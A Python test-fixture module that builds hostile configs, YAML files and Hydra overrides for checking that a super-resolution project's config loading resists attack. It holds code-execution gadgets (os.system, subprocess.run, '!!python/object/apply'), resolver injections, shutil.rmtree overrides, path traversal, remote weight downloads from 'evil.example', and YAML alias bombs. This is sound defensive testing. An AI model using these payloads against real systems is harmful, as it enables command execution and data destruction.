"""Model configs, pipelines and records that a stranger might send, by name. Whatever they name would leave a trace."""

import json
from pathlib import Path
from typing import Any

NETWORK = {"_target_": "realsr_mod.networks.srresnet.SRResNet", "scale": 2, "channels": 4, "num_blocks": 1}
CLASSIC = {"_target_": "realsr_mod.degradations.classic.ClassicDegradation", "scale": 2, "kernel_size": 7}


def nested(value: Any, depth: int) -> Any:
    for _ in range(depth):
        value = [value]
    return value


def gadget(canary: Path) -> dict[str, Any]:
    """What Hydra's `instantiate` would run, leaving a file; later versions of Hydra block `os.system` themselves."""
    return {"_target_": "realsr_mod.runtime.files.write_json", "path": str(canary), "content": 1}


def hostile_configs(canary: Path) -> dict[str, bytes]:
    """`config.json` beside sound weights of `NETWORK`. None of these is a model."""
    trap = gadget(canary)
    touch = str(canary)

    def network(**changed: Any) -> dict[str, Any]:
        return {"network": NETWORK | changed}

    values: dict[str, Any] = {
        "null": None,
        "list": [],
        "number": 5,
        "text": "network",
        "empty": {},
        "network_null": {"network": None},
        "network_list": {"network": [NETWORK]},
        "network_text": {"network": NETWORK["_target_"]},
        "target_number": network(_target_=5),
        "target_null": network(_target_=None),
        "target_list": network(_target_=[NETWORK["_target_"]]),
        "target_missing": {"network": {"channels": 4}},
        "target_gadget": {"network": trap},
        "target_system": {"network": {"_target_": "os.system", "command": f"touch {touch}"}},
        "channels_gadget": network(channels=trap),
        "scale_gadget": network(scale=trap),
        "unknown_gadget": network(other=trap),
        "gadget_in_list": network(channels=[4, trap]),
        "gadget_ten_deep": network(channels=nested(trap, 10)),
        "gadget_in_mapping": network(channels={"a": {"b": trap}}),
        "gadget_of_ours": network(
            channels={"_target_": "realsr_mod.training.prerequisites.wait_for", "command": ["touch", touch]}
        ),
        "gadget_partial": network(channels={"_target_": "subprocess.run", "_partial_": True, "args": ["touch", touch]}),
        "gadget_args": network(_args_=[trap]),
        "args": {"network": {"_target_": "os.system", "_args_": [f"touch {touch}"]}},
        "recursive": network(_recursive_=False),
        "convert": network(_convert_="all"),
        "partial": network(_partial_=True),
        "interpolation": network(channels="${oc.env:HOME}"),
        "interpolation_created": network(channels="${oc.create:{_target_: os.system, command: 'touch " + touch + "'}}"),
        "interpolated_target": network(_target_="${network.other}", other="os.system"),
        "missing_value": network(channels="???"),
        "through_an_import": network(_target_="realsr_mod.degradations.stored.os.system", command=f"touch {touch}"),
        "through_an_imported_name": network(_target_="realsr_mod.runtime.files.os.system", command=f"touch {touch}"),
        "imported_class": network(_target_="realsr_mod.methods.ddr.network.SRResNet"),
        "function": network(_target_="realsr_mod.training.prerequisites.wait_for", command=["touch", touch]),
        "module": network(_target_="realsr_mod.networks.srresnet"),
        "package": network(_target_="realsr_mod"),
        "no_network": network(_target_="realsr_mod.networks.blocks.ResidualBlock"),
        "base_class": network(_target_="realsr_mod.networks.base.SRNetwork"),
        "lightning_module": network(_target_="realsr_mod.methods.plain.module.PlainSR"),
        "studio": network(_target_="realsr_mod.inference.studio.Studio", models=["newest"]),
        "torch_module": network(_target_="torch.nn.Conv2d"),
        "torch_hub": network(_target_="torch.hub.load", repo_or_dir=touch),
        "look_alike": network(_target_="realsr_mоd.networks.srresnet.SRResNet"),
        "full_width": network(_target_="ｒealsr_mod.networks.srresnet.SRResNet"),
        "dots": network(_target_="realsr_mod..networks.srresnet.SRResNet"),
        "leading_dot": network(_target_=".os.system"),
        "trailing_newline": network(_target_=NETWORK["_target_"] + "\n"),
        "space": network(_target_=" " + NETWORK["_target_"]),
        "slash": network(_target_="realsr_mod/networks/srresnet.SRResNet"),
        "dunder": network(_target_="realsr_mod.networks.srresnet.SRResNet.__init__"),
        "builtins": network(_target_="realsr_mod.networks.srresnet.__builtins__"),
        "very_long_target": network(_target_="realsr_mod" + ".a" * 4_000),
        "null_byte": network(_target_=NETWORK["_target_"] + "\0"),
        "channels_1e9": network(channels=10**9),
        "channels_1e17": network(channels=10**17),
        "channels_negative": network(channels=-1),
        "channels_zero": network(channels=0),
        "channels_nan": network(channels=float("nan")),
        "channels_infinite": network(channels=float("inf")),
        "channels_1e308": network(channels=1e308),
        "channels_text": network(channels="4" * 20_000),
        "channels_fraction": network(channels=4.5),
        "channels_null": network(channels=None),
        "channels_true": network(channels=[True]),
        "blocks_1e9": network(num_blocks=10**9),
        "blocks_5000": network(num_blocks=5_000),
        "scale_1e9": network(scale=10**9),
        "scale_1000": network(scale=1_000),
        "scale_zero": network(scale=0),
        "argument_unknown": network(colour="blue"),
        "argument_self": network(self=1),
        "other_size": network(channels=8),
        "long_list": network(channels=[0] * 20_000),
        "wide_and_deep": network(channels=nested([0] * 9_000, 12)),
        "sha256_null": network() | {"sha256": None},
        "sha256_list": network() | {"sha256": []},
        "sha256_wrong": network() | {"sha256": "0" * 64},
        "restores_text": network() | {"restores": "yes"},
        "name_list": network() | {"name": ["a"]},
        "name_markup": network() | {"name": "[red]a[/b]"},
        "name_controls": network() | {"name": "a\u001b[2J"},
        "name_surrogate": network() | {"name": "a\ud800"},
        "name_path": network() | {"name": "a" * 5_000},
        "method_number": network() | {"method": 5},
        "key_surrogate": network() | {"a\ud800": 1},
        "key_controls": network() | {"a\u001b[2J": "${b}"},
    }
    texts = {name: json.dumps(value).encode() for name, value in values.items()}
    return texts | {
        "nothing": b"",
        "no_json": b"{",
        "python": f"__import__('os').system('touch {touch}')".encode(),
        "yaml": f"!!python/object/apply:os.system ['touch {touch}']".encode(),
        "bytes": b"\xff\xfe\x00",
        "invalid_utf8": b'{"network": "\xff"}',
        "utf16": json.dumps(network()).encode("utf-16"),
        "deep": b"[" * 200_000,
        "deep_and_closed": b'{"network": ' + b"[" * 5_000 + b"]" * 5_000 + b"}",
        "huge_integer": b'{"network": {"channels": ' + b"9" * 4_000 + b"}}",
        "huger_integer": b'{"network": {"channels": ' + b"9" * 100_000 + b"}}",
        "100_mb": b'{"network": "' + b"a" * 100_000_000 + b'"}',
        "9_mb_of_numbers": b'{"network": [' + b"0," * 4_500_000 + b"0]}",
        "9_mb_of_mappings": b'{"network": {"a": [' + b"{}," * 3_000_000 + b"{}]}}",
    }


def hostile_degradations(canary: Path) -> dict[str, Any]:
    """`degradation` of a config, or in a params file: none is a pipeline."""
    trap = gadget(canary)
    kernel = "realsr_mod.degradations.blur.GaussianBlur"
    return {
        "number": 5,
        "list": [CLASSIC],
        "empty": {},
        "gadget": trap,
        "gadget_inside": CLASSIC | {"kernel_size": trap},
        "gadget_in_list": CLASSIC | {"sigma_range_px": [0.2, trap]},
        "gadget_ten_deep": CLASSIC | {"sigma_range_px": nested(trap, 10)},
        "gadget_in_pipeline": {"pipeline": trap, "scale": 2},
        "pipeline_text": {"pipeline": "os.system"},
        "function": {"_target_": "realsr_mod.degradations.stored.save_params", "path": str(canary)},
        "imported": {"_target_": "realsr_mod.degradations.stored.Path", "path": str(canary)},
        "part": {"_target_": kernel, "kernel_size": 7, "sigma_range_px": [1, 2]},
        "network": NETWORK,
        "part_where_a_pipeline_belongs": {
            "_target_": "realsr_mod.degradations.spatial.SpatialDegradation", "scale": 2,
            "pipelines": {"a": {"_target_": kernel, "kernel_size": 7, "sigma_range_px": [1, 2]}, "b": CLASSIC},
        },
        "abstract": {"_target_": "realsr_mod.degradations.base.Degradation", "scale": 2},
        "scale_1e9": CLASSIC | {"scale": 10**9},
        "scale_3000": CLASSIC | {"scale": 3_000},
        "scale_negative": CLASSIC | {"scale": -2},
        "scale_zero": CLASSIC | {"scale": 0},
        "scale_fraction": CLASSIC | {"scale": 2.5},
        "scale_text": CLASSIC | {"scale": "2"},
        "kernel_1e9": CLASSIC | {"kernel_size": 10**9 + 1},
        "kernel_20001": CLASSIC | {"kernel_size": 20_001},
        "kernel_text": CLASSIC | {"kernel_size": "7"},
        "sigma_nan": CLASSIC | {"sigma_range_px": [0.1, float("nan")]},
        "sigma_mapping": CLASSIC | {"sigma_range_px": {"a": 1}},
        "interpolation": CLASSIC | {"kernel_size": "${oc.env:HOME}"},
        "argument_unknown": CLASSIC | {"colour": 1},
        "partial": CLASSIC | {"_partial_": True},
        "factor_1e6": {
            "_target_": "realsr_mod.degradations.second_order.SecondOrder", "scale": 2,
            "resize1": {"_target_": "realsr_mod.degradations.random_resize.RandomResize", "factor_range": [0.5, 1e6]},
        },
    }  # fmt: skip


def hostile_yaml(canary: Path) -> dict[str, str]:
    """Files for `degrade --degradation`."""
    classic = "_target_: realsr_mod.degradations.classic.ClassicDegradation\nscale: 2\n"
    ten = ", ".join
    laughs = "a0: &a0 [" + ten(["lol"] * 10) + "]\n"
    laughs += "".join(f"a{n}: &a{n} [{ten([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 10))
    merged = "a0: &a0 {x: 1}\n" + "".join(f"a{n}: &a{n} {{<<: [{ten([f'*a{n - 1}'] * 10)}]}}\n" for n in range(1, 10))
    doubled = "\n".join(f'a{n}: "${{degradation.a{n + 1}}}${{degradation.a{n + 1}}}"' for n in range(40))
    return {name: json.dumps(value) for name, value in hostile_degradations(canary).items()} | {
        "nothing": "",
        "python_object": f"!!python/object/apply:os.system ['touch {canary}']",
        "python_object_inside": classic + f"kernel_size: !!python/object/apply:os.system ['touch {canary}']",
        "python_name": classic + "kernel_size: !!python/name:os.system ''",
        "python_path": classic + "kernel_size: !!python/object/apply:pathlib.PosixPath [a]",
        "laughs": classic + laughs,
        "merged_laughs": classic + merged,
        "inside_itself": classic + "a: &a [*a]",
        "doubled_text": classic + doubled + "\na40: aaaaaaaaaa",
        "environment": classic + "kernel_size: ${oc.env:HOME}",
        "created": classic + "kernel_size: ${oc.create:{_target_:os.system}}",
        "other_key": classic + "kernel_size: ${degradation.scale}",
        "deep": "[" * 40_000,
        "deep_block": "".join(" " * n + "- \n" for n in range(400)),
        "long": classic + "# " + "a" * 5_000_000,
        "binary": "\x00\x01",
        "two_documents": classic + "---\n" + classic,
        "number_key": classic + "5: 6",
    }


def hostile_overrides(canary: Path) -> dict[str, Any]:
    """Records of runs, `.hydra/overrides.yaml`, that ask for more than a training's settings."""
    call = "{_target_:realsr_mod.runtime.files.write_json,path:'" + str(canary) + "',content:1}"
    return {
        "callback": [f"+callbacks.x={call}"],
        "callback_by_key": ["+callbacks.x._target_=os.system", f"+callbacks.x.command='touch {canary}'"],
        "callback_ours": [
            "++callbacks.x._target_=realsr_mod.runtime.files.write_json",
            f"++callbacks.x.path='{canary}'",
            "++callbacks.x.content=1",
        ],
        "callback_created": ["+callbacks.x=${oc.create:" + call + "}"],
        "callback_decoded": ['+callbacks.x=${oc.decode:"' + call + '"}'],
        "callback_created_quoted": ["+callbacks.x='${oc.create:" + call.replace("'", "") + "}'"],
        "callback_computed": ["+callbacks.x='${oc.dict.values:data}'"],
        "resolver_name_computed": ["+r=create", "+callbacks.x=${oc.${r}:" + call + "}"],
        "target_referred_to": ["+evil=os.system", "+callbacks.x._target_=${evil}"],
        "network_function": ["network._target_=os.system"],
        "network_command": ["network._target_=realsr_mod.zoo.write_card"],
        "method_function": ["method._target_=realsr_mod.training.prerequisites.wait_for"],
        "data_function": ["data._target_=shutil.rmtree", f"+data.path={canary.parent}"],
        "optimizer_function": ["method.optimizer._target_=torch.hub.load"],
        "optimizer_module": ["method.optimizer._target_=torch.optim.os.system"],
        "scheduler_function": ["method.scheduler={_target_:subprocess.run,args:[touch]}"],
        "trainer_plugin": [f"+trainer.plugins=[{call}]"],
        "deep_in_lists": [f"+trainer.x=[[[[[[[[[[{call}]]]]]]]]]]"],
        "logger": ["logger._target_=os.system"],
        "logger_elsewhere": ["logger.save_dir=/tmp/elsewhere"],
        "checkpoint_elsewhere": ["callbacks.last.dirpath=/tmp/elsewhere"],
        "checkpoint_above": ["callbacks.last.filename=../../last"],
        "checkpoint_remote": ["callbacks.last.dirpath=memory://x"],
        "hydra_folder": ["hydra.run.dir=/tmp/elsewhere"],
        "hydra_spaced": [" hydra.run.dir=/tmp/elsewhere"],
        "hydra_search": ["hydra.searchpath=[file:///tmp]"],
        "hydra_search_added": ["+hydra.searchpath=[file:///tmp]"],
        "hydra_launcher": ["hydra/launcher=joblib"],
        "hydra_launcher_forced": ["+hydra/launcher=joblib"],
        "hydra_launcher_deleted": ["~hydra/launcher"],
        "hydra_callbacks": [f"+hydra.callbacks.x={call}"],
        "hydra_package": ["+callbacks@hydra.callbacks=default"],
        "flag_config": ["--config-dir=/tmp"],
        "flag_config_name": ["--config-name=evil"],
        "flag_sweep": ["--multirun"],
        "flag_shell": ["--shell-completion"],
        "flag_short": ["-cn", "evil"],
        "sweep": ["seed=1,2"],
        "sweep_range": ["seed=range(1,9)"],
        "above": ["experiment=../../evil"],
        "above_added": ["+experiment=../../../tmp/evil"],
        "above_packaged": ["+data@x=../../evil"],
        "above_in_list": ["experiment=[../../evil]"],
        "above_quoted": ["experiment='../../evil'"],
        "absolute": ["experiment=/tmp/evil"],
        "absolute_quoted": ['experiment="/tmp/evil"'],
        "wandb": ["logger=wandb"],
        "wandb_of_another": ["logger=wandb", "+logger.entity=evil"],
        "wandb_by_target": ["logger._target_=realsr_mod.training.loggers.wandb_logger", "+logger.entity=evil"],
        "wandb_as_callback": ["+callbacks.x={_target_:realsr_mod.training.loggers.wandb_logger,project:evil}"],
        "wandb_as_loss": ["method.pixel_loss={_target_:realsr_mod.training.loggers.wandb_logger,project:evil}"],
        "logger_of_lightning": ["logger._target_=pytorch_lightning.loggers.MLFlowLogger", "+logger.tracking_uri=http://a"],
        "logger_list": ["+logger.others=[{_target_:pytorch_lightning.loggers.CometLogger}]"],
        "weights_remote": ["perceptual=vgg19", "perceptual.weights=http://evil.example/a.pth"],
        "weights_remote_https": [
            "perceptual=vgg19", "perceptual.weights=https://evil.example/a.pth", "perceptual.sha256=00000000"
        ],
        "weights_remote_loud": ["perceptual=vgg19", "perceptual.weights='HTTP://evil.example/a.pth'"],
        "weights_remote_pieced": ["+s=evil.example", "perceptual=vgg19", "perceptual.weights='http:/${s}/a.pth'"],
        "weights_share": ["perceptual=vgg19", "perceptual.weights='//evil.example/a.pth'"],
        "weights_windows_share": ["perceptual=vgg19", r"perceptual.weights='\\\\evil.example\\a.pth'"],
        "weights_by_loss": [
            "method.perceptual={_target_:realsr_mod.losses.perceptual.PerceptualLoss,layers:{conv1_2:1},"
            "weights:'https://evil.example/a.pth',sha256:'00000000'}"
        ],
        "model_remote": ["output_distillation=released", "output_distillation.model=https://evil.example/a.pth"],
        "start_remote": ["start_from=s3://evil/a.ckpt"],
        "teacher_remote": ["teacher=ftp://evil.example/a"],
        "photos_remote": ["data=folder", "data.root=gs://evil/photos"],
        "photos_share": ["data=folder", "data.root='//evil.example/photos'"],
        "registry": ["+trainer.model_registry=evil/model"],
        "profiler": ["+trainer.profiler=xla"],
        "root_dir": ["+trainer.default_root_dir=/tmp/elsewhere"],
        "strategy": ["+trainer.strategy=deepspeed_stage_3_offload_nvme"],
        "trainer_plugin_named": ["+trainer.plugins=torchelastic"],
        "runs_elsewhere": ["runs_dir=/tmp/elsewhere"],
        "runs_above": ["runs_dir=../../.."],
        "images_beside": ["callbacks.images.folder=elsewhere"],
        "images_beside_known": ["callbacks.images.folder=runs"],
        "checkpoint_beside": ["callbacks.interrupt.path=elsewhere.ckpt"],
        "checkpoint_folder_beside": ["callbacks.last.dirpath=elsewhere"],
        "checkpoint_by_reference": ["+x=elsewhere", "callbacks.last.dirpath=${x}"],
        "best_beside": ["callbacks.best.folder=elsewhere"],
        "log_beside": ["logger.save_dir=elsewhere"],
        "log_name_above": ["logger=tensorboard", "logger.name=.."],
        "callback_in_the_data": ["data={_target_:realsr_mod.training.callbacks.ImageGrid,folder:/tmp/elsewhere}"],
        "logger_in_the_loss": [
            "method.pixel_loss={_target_:pytorch_lightning.loggers.TensorBoardLogger,save_dir:/tmp/elsewhere}"
        ],
        "checkpoint_in_the_loss": [
            "method.pixel_loss={_target_:pytorch_lightning.callbacks.ModelCheckpoint,dirpath:x}"
        ],
        "ranking": ["+callbacks.x._target_=realsr_mod.training.ranking.Ranking"],
        "trainer_in_the_loss": ["method.pixel_loss={_target_:pytorch_lightning.Trainer,logger:true}"],
        "target_list": ["method.pixel_loss={_target_:[os.system]}"],
        "target_mapping": ["method.pixel_loss={_target_:{a:os.system}}"],
        "prerequisite_above": ["prerequisites.teacher.experiment=../../../tmp/evil"],
        "prerequisite_lock": ["prerequisites.teacher.name=../../evil"],
        "prerequisite_added": ["+prerequisites.x={experiment:kdsr_teacher,name:a,same:[]}"],
        "prerequisite_packaged": ["+data@prerequisites=folder"],
        "no_setting": ["evil"],
        "broken": ["a=[{"],
        "number": 5,
        "mapping": {"a": 1},
        "numbers": [1, 2],
        "lists": [["a=1"]],
        "null": None,
    }  # fmt: skip
